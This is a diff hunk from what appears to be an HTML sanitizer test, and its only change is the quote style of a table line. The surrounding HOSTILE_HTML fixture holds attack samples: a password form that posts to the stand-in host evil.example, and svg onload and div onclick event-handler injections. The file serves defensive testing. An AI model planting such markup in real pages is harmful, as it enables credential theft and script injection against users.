@@ -25,7 +25,7 @@ HOSTILE_HTML = (
     '<form action="https://evil.example/"><input name="password"></form>'
     '<svg onload="window.stolen = 5"></svg>'
     '<div onclick="window.stolen = 6" class="kept">a table follows</div>'
-    '<table><tr><td>school 17</td></tr></table>'
+    "<table><tr><td>school 17</td></tr></table>"
     '<img alt="plot" src="data:image/png;base64,iVBORw0KGgo=">'
 )
 
